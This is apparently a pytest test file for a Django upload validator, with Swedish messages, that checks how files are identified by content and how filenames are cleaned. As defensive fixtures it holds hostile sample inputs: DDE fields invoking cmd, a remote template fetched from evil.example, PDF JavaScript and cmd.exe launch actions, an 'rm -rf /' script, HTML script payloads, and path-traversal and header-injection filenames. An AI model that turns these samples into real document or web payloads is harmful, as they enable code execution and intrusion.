"""Which files are taken in: told by their content, whatever they are called."""

from contextlib import suppress

import pikepdf
import pytest
from django.core.exceptions import ValidationError
from hypothesis import given
from hypothesis import strategies as st

from itdrift.uploads import CONTENT_TYPES, clean_name, kind_of, text_in

from ..onboarding.letters.files import (
    DOCX,
    JPEG,
    MAIN,
    OFFICE,
    PDF,
    PNG,
    office,
    open_document,
    packed,
    pdf,
    picture,
    taken_at,
)

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(64)
DOCUMENT = {
    "[Content_Types].xml": f'<Types><Override ContentType="{MAIN["word"]}" PartName="/word/document.xml"/></Types>'
}
DDE_FIELD = "<w:p><w:r><w:instrText> DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\cmd</w:instrText></w:r></w:p>"
DDE_SIMPLE = '<w:fldSimple w:instr="DDEAUTO cmd"/>'
AFAR = (
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
    ' Target="https://evil.example/a.dotm" TargetMode="External"/>'
)


STOCKHOLM = {
    "GPSLatitudeRef": "N",
    "GPSLatitude": (59.0, 19.0, 46.0),
    "GPSLongitudeRef": "E",
    "GPSLongitude": (18.0, 4.0, 7.0),
}


def javascript(made):
    made.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")


def launch(made):
    action = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe")
    made.pages[0].Annots = pikepdf.Array(
        [pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, A=action)]
    )


def link(made):
    action = pikepdf.Dictionary(S=pikepdf.Name.URI, URI="https://myndighet.example")
    made.pages[0].Annots = pikepdf.Array(
        [pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, A=action)]
    )


TAKEN = {
    "a.pdf": PDF,
    "a.PDF": PDF,
    "a.png": PNG,
    "a.jpg": JPEG,
    "a.jpeg": JPEG,
    "kamera.jpg": picture("JPEG", exif=taken_at(GPSDateStamp="2026:11:30")),
    "a.docx": DOCX,
    "webb.docx": office("word/document2.xml"),
    "webb.xlsx": office("xl/workbook22.xml"),
    "egen-mall.docx": office(
        "word/document.xml",
        **{"word/_rels/settings.xml.rels": AFAR.replace("https://evil.example", "file:///C:\\mallar")},
    ),
    "talar-om-dde.docx": office("word/document.xml", **{"word/header1.xml": "<w:t>DDE</w:t>"}),
    "ägarlösen.pdf": pdf(encryption=pikepdf.Encryption(user="", owner="ägare")),
    "länk.pdf": pdf(link),
    "a.xlsx": office("xl/workbook.xml"),
    "a.pptx": office("ppt/presentation.xml"),
    "a.odt": open_document("text"),
    "a.ods": open_document("spreadsheet"),
    "a.odp": open_document("presentation"),
    "a.txt": "Räksmörgås\r\n\t½".encode(),
    "b.txt": "Räksmörgås".encode("cp1252"),
    "a.csv": b"a;b\r\n1;2\r\n",
}
OTHER_SLAG = "är av ett slag som inte tas emot"
SAYS_OTHER = "men namnet säger något annat"
MACROS = "innehåller makron"
UNREADABLE = "går inte att läsa"
REFUSED = {
    "program.exe": (b"MZ\x90\x00" + bytes(64), OTHER_SLAG),
    "program.pdf": (b"MZ\x90\x00" + bytes(64), OTHER_SLAG),
    "sida.html": (b"<!doctype html><script>alert(1)</script>", OTHER_SLAG),
    "sida.txt": (b"  <HTML><body onload=x>", OTHER_SLAG),
    "bild.txt": (b"<svg xmlns='http://www.w3.org/2000/svg'/>", OTHER_SLAG),
    "bild.svg": (b"<svg/>", OTHER_SLAG),
    "skript.txt": (b"#!/bin/sh\nrm -rf /", OTHER_SLAG),
    "text.rtf": (b"{\\rtf1 x}", OTHER_SLAG),
    "nul.txt": (b"text\0text", OTHER_SLAG),
    "gammal.doc": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(64), OTHER_SLAG),
    "lösenord.docx": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(64), OTHER_SLAG),
    "arkiv.zip": (packed({"a.txt": "x"}), OTHER_SLAG),
    "arkiv.docx": (packed({"a.txt": "x"}), OTHER_SLAG),
    "arkiv.jar": (packed({"META-INF/MANIFEST.MF": "x"}), OTHER_SLAG),
    "mall.docm": (DOCX, SAYS_OTHER),
    "rapport.pdf": (DOCX, SAYS_OTHER),
    "rapport.docx": (PDF, SAYS_OTHER),
    "bild.png": (JPEG, SAYS_OTHER),
    "utan": (PDF, SAYS_OTHER),
    "text.pdf": (b"bara text", SAYS_OTHER),
    "text.js": (b"alert(1)", SAYS_OTHER),
    "makro.docx": (office("word/document.xml", **{"word/vbaProject.bin": "x"}), MACROS),
    "makro2.docx": (office("word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml"), MACROS),
    "makro.docm": (office("word/document.xml", **{"word/vbaProject.bin": "x"}), MACROS),
    "makro.xlsx": (office("xl/workbook.xml", **{"xl/macrosheets/sheet1.xml": "x"}), MACROS),
    "makro.odt": (open_document("text", **{"Basic/Standard/Module1.xml": "x"}), MACROS),
    "aktiv.docx": (office("word/document.xml", **{"word/activeX/activeX1.bin": "x"}), "innehåller ActiveX-kontroller"),
    "makro3.xlsx": (office("xl/workbook.xml", **{"xl/bild.dat": OLE}), "innehåller inbäddade objekt"),
    "objekt.docx": (
        office("word/document.xml", **{"word/embeddings/oleObject1.bin": "x"}),
        "innehåller inbäddade objekt",
    ),
    "program.docx": (office("word/document.xml", **{"word/media/bild.png": b"MZ\x90"}), "innehåller program"),
    "skript.docx": (office("word/document.xml", **{"word/media/a.js": "x"}), "innehåller program"),
    "dde.docx": (packed(DOCUMENT | {"word/document.xml": DDE_FIELD}), r"innehåller fält som hämtar .* \(DDE\)"),
    "dde2.docx": (office("word/document.xml", **{"word/header1.xml": DDE_SIMPLE}), "innehåller fält som hämtar"),
    "dde.xlsx": (office("xl/workbook.xml", **{"xl/externalLinks/externalLink1.xml": "<ddeLink/>"}), "innehåller fält"),
    "mall.docx": (
        office("word/document.xml", **{"word/_rels/settings.xml.rels": AFAR}),
        "innehåller en mall som hämtas",
    ),
    "bilaga.dotx": (
        office("word/document.xml", f"{OFFICE}wordprocessingml.template.main+xml"),
        "är en Word-mall, som inte",
    ),
    "blad.xlsb": (
        office("xl/workbook.bin", "application/vnd.ms-excel.sheet.binary.macroEnabled.main"),
        "är ett binärt Excel-kalkylblad, som inte tas emot. Spara den som ett Excel-kalkylblad",
    ),
    "mycket.docx": (
        office("word/document.xml", **{f"word/{n}.xml": "" for n in range(2000)}),
        "har fler eller större delar än som kan granskas. Spara den på nytt, eller som PDF, och försök igen.",
    ),
    "kort.pdf": (b"%PDF-1.7\n1 0 obj\n<<>>\n", UNREADABLE),
    "tomma-sidor.pdf": (b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n", UNREADABLE),
    "låst.pdf": (
        pdf(encryption=pikepdf.Encryption(user="hemligt", owner="ägare")),
        "är skyddad med lösenord. Spara den utan",
    ),
    "skript.pdf": (pdf(javascript), "innehåller JavaScript eller något som startar program"),
    "start.pdf": (pdf(launch), "innehåller JavaScript eller något som startar program"),
    "fyra.jpg": (b"\xff\xd8\xff\xe0", UNREADABLE),
    "plats.jpg": (picture("JPEG", exif=taken_at(**STOCKHOLM)), "visar i sina egenskaper var bilden är tagen"),
    "plats.png": (picture("PNG", exif=taken_at(**STOCKHOLM)), "visar i sina egenskaper var bilden är tagen"),
    "huvud.png": (PNG[:20], UNREADABLE),
    "halv.docx": (DOCX[:60], UNREADABLE),
    "trasig.docx": (b"PK\x03\x04" + bytes(200), UNREADABLE),
    "tom.pdf": (b"", "är tom"),
}


@pytest.mark.parametrize("name", TAKEN)
def test_what_is_taken_in(name):
    assert kind_of(name, TAKEN[name]).content_type in CONTENT_TYPES


@pytest.mark.parametrize("name", REFUSED)
def test_what_is_refused_and_why(name):
    content, why = REFUSED[name]
    with pytest.raises(ValidationError, match=why) as error:
        kind_of(name, content)
    assert error.value.messages[0].startswith(f"”{name}”")


def test_a_wrong_suffix_is_told_with_the_right_one():
    with pytest.raises(ValidationError) as error:
        kind_of("rapport.pdf", DOCX)
    assert error.value.messages == [
        "”rapport.pdf” är ett Word-dokument men namnet säger något annat. Låt det sluta på .docx."
    ]


@pytest.mark.parametrize(
    ("given_name", "kept"),
    [
        ("Kravlista.pdf", "Kravlista.pdf"),
        ("C:\\Users\\anna\\Kravlista.pdf", "Kravlista.pdf"),
        ("../../etc/passwd.txt", "passwd.txt"),
        ("faktura\u202efdp.exe", "fakturafdp.exe"),
        ("a\0b\r\nSet-Cookie: x.pdf", "abSet-Cookie- x.pdf"),
        ("Ra\u0308ksmo\u0308rga\u030as.pdf", "Räksmörgås.pdf"),
        ("  .htaccess", "htaccess"),
        ("", "bilaga"),
        ("\u202e\u200b", "bilaga"),
        ('a"b<c>d.pdf', "a-b-c-d.pdf"),
        ("x" * 300 + ".pdf", "x" * 146 + ".pdf"),
    ],
)
def test_the_name_is_cleaned(given_name, kept):
    assert clean_name(given_name) == kept


@pytest.mark.drill
@given(st.text(max_size=400))
def test_every_name_becomes_one_that_may_be_kept(name):
    kept = clean_name(name)
    assert 0 < len(kept) <= 150
    assert kept.isprintable()
    assert not set(kept) & set('/\\<>:"|?*')
    assert clean_name(kept) == kept


@pytest.mark.drill
@given(st.binary(max_size=200))
def test_every_content_is_told_or_refused(content):
    with suppress(ValidationError):
        assert kind_of("fil.txt", content).content_type == "text/plain"


WRITTEN = {
    "a.txt": "Räka\r\nHemlig".encode("cp1252"),
    "a.csv": "Räka;1\nHemlig;2".encode("utf-8-sig"),
    "a.docx": office(
        "word/document.xml",
        **{"word/header1.xml": "<x><w:p><w:t>Rä</w:t><w:t>ka</w:t></w:p><w:p><w:t>Hemlig</w:t></w:p></x>"},
    ),
    "a.xlsx": office(
        "xl/workbook.xml", **{"xl/sharedStrings.xml": "<sst><si><t>Räka</t></si><si><t>Hemlig</t></si></sst>"}
    ),
    "a.pptx": office(
        "ppt/presentation.xml",
        **{"ppt/slides/slide1.xml": "<x><a:p><a:t>Räka</a:t></a:p><a:p><a:t>Hemlig</a:t></a:p></x>"},
    ),
    "a.odt": packed(
        {
            "mimetype": "application/vnd.oasis.opendocument.text",
            "content.xml": "<x><text:p>R&#228;<text:span>ka</text:span></text:p><text:p>Hemlig</text:p></x>",
        }
    ),
}


@pytest.mark.parametrize("name", WRITTEN)
def test_what_is_written_in_a_file_is_read_line_by_line(name):
    lines = text_in(kind_of(name, WRITTEN[name]), WRITTEN[name]).splitlines()
    assert [line.split(";")[0] for line in lines if line] == ["Räka", "Hemlig"]


def test_nothing_is_read_of_pictures_and_of_pdf():
    assert [text_in(kind_of(f"a.{name}", content), content) for name, content in (("png", PNG), ("pdf", PDF))] == [
        "",
        "",
    ]
